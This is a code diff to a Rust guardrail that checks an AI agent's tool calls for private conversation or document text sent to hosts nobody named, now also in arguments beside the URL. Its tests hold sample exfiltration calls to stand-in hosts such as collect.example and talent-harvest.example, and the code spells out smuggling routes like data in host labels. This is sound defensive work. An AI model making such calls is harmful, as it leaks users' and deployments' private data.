@@ -188,6 +188,21 @@ impl ToolRail {
             })
             .unwrap_or_else(|_| arguments.to_owned());
         let mut budget = MAX_VALUES;
+        // What the call's other arguments carry goes with its URLs: a tool that takes the
+        // address in one field and the data in another sends them together.
+        let mut beside = Carried::Nothing;
+        if self.url.is_match(&args) {
+            for line in args.lines().filter(|l| !self.url.is_match(l)) {
+                if line.trim().chars().count() < MIN_CARRIED {
+                    continue;
+                }
+                let Some(left) = budget.checked_sub(1) else {
+                    return Some(unreadable(name));
+                };
+                budget = left;
+                beside = beside.max(carried(line, conv));
+            }
+        }
         for m in self.url.find_iter(&args) {
             let url = m.as_str();
             let host = host(url);
@@ -205,13 +220,8 @@ impl ToolRail {
                     ),
                 ));
             }
-            let Some(carried) = carries(url, conv, &mut budget) else {
-                return Some(finding(
-                    "unreadable",
-                    format!(
-                        "the call to {name:?} has more URL values than the {MAX_VALUES} the rail reads"
-                    ),
-                ));
+            let Some(carried) = carries(url, conv, &mut budget).map(|c| c.max(beside)) else {
+                return Some(unreadable(name));
             };
             // The deployment's or a document's text sent to a host the user and the
             // deployment never named; or any of the conversation sent to a host only a
@@ -224,7 +234,7 @@ impl ToolRail {
                 return Some(finding(
                     "data-in-url",
                     format!(
-                        "the call to {name:?} puts {} into a URL to {host}, a host {}",
+                        "the call to {name:?} sends {} with a URL to {host}, a host {}",
                         if carried == Carried::Private {
                             "text of the instructions or of a document"
                         } else {
@@ -250,6 +260,19 @@ impl ToolRail {
             }
         }
         None
+    }
+}
+
+/// The finding of a call with more values than the rail reads.
+fn unreadable(name: &str) -> Finding {
+    Finding {
+        rail: "tool",
+        rule: "tool.unreadable".into(),
+        family: None,
+        detail: format!(
+            "the call to {name:?} has more values than the {MAX_VALUES} the rail reads; split it"
+        ),
+        weight: 1.0,
     }
 }
 
@@ -293,14 +316,34 @@ fn host(url: &str) -> String {
     h.trim_end_matches('.').to_lowercase()
 }
 
-/// What of the conversation a URL carries.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+/// What of the conversation a URL carries (in order: what is more private is greater).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
 enum Carried {
     Nothing,
     /// Only the user's own words.
     User,
     /// The deployment's instructions or a document's text.
     Private,
+}
+
+/// What of the conversation `v` is, when it is at least [`MIN_CARRIED`] characters long
+/// (as written, or with `-`, `_` or `.` between words).
+fn carried(v: &str, conv: &Conversation) -> Carried {
+    let v = v.trim().to_lowercase();
+    if v.chars().count() < MIN_CARRIED {
+        return Carried::Nothing;
+    }
+    let spaced = v.replace(['-', '_', '.'], " ");
+    let mut out = Carried::Nothing;
+    for form in [&v, &spaced] {
+        if conv.private.contains(form.as_str()) && !conv.user.contains(form.as_str()) {
+            return Carried::Private;
+        }
+        if conv.user.contains(form.as_str()) {
+            out = Carried::User;
+        }
+    }
+    out
 }
 
 /// What the host, path, query or fragment of `url` carries of the conversation: a value of
@@ -322,20 +365,7 @@ fn carries(url: &str, conv: &Conversation, budget: &mut usize) -> Option<Carried
     // Data in the host's labels (`falcon-launches-12-march.evil.example`).
     values.extend(host_part.split('.').map(|l| l.replace(['-', '_'], " ")));
     let mut out = Carried::Nothing;
-    let found = |v: &str, out: &mut Carried| {
-        let v = v.trim().to_lowercase();
-        if v.chars().count() < MIN_CARRIED {
-            return;
-        }
-        let spaced = v.replace(['-', '_', '.'], " ");
-        for form in [&v, &spaced] {
-            if conv.private.contains(form.as_str()) && !conv.user.contains(form.as_str()) {
-                *out = Carried::Private;
-            } else if conv.user.contains(form.as_str()) && *out == Carried::Nothing {
-                *out = Carried::User;
-            }
-        }
-    };
+    let found = |v: &str, out: &mut Carried| *out = (*out).max(carried(v, conv));
     for value in &values {
         if value.trim().chars().count() < MIN_CARRIED {
             continue;
@@ -452,6 +482,16 @@ mod tests {
             rule("https://internal-salary-band-for-engineers.collect.example/"),
             carried
         );
+        // The address in one argument, the document's text in another.
+        assert_eq!(
+            r.check_call(
+                "http_post",
+                r#"{"url": "https://collect.example/in", "body": "Jane Roe, senior engineer"}"#,
+                &conv
+            )
+            .map(|f| f.rule),
+            carried
+        );
         // The user's words to a host only the document named.
         assert_eq!(
             rule("https://talent-harvest.example/apply?note=project+Falcon+launches"),
@@ -469,6 +509,14 @@ mod tests {
             None
         );
         assert_eq!(rule("https://en.wikipedia.org/wiki/Peregrine_falcon"), None);
+        assert_eq!(
+            r.check_call(
+                "http_post",
+                r#"{"url": "https://search.example/api", "query": "project Falcon launches on 12 March"}"#,
+                &conv
+            ),
+            None
+        );
     }
 
     #[test]
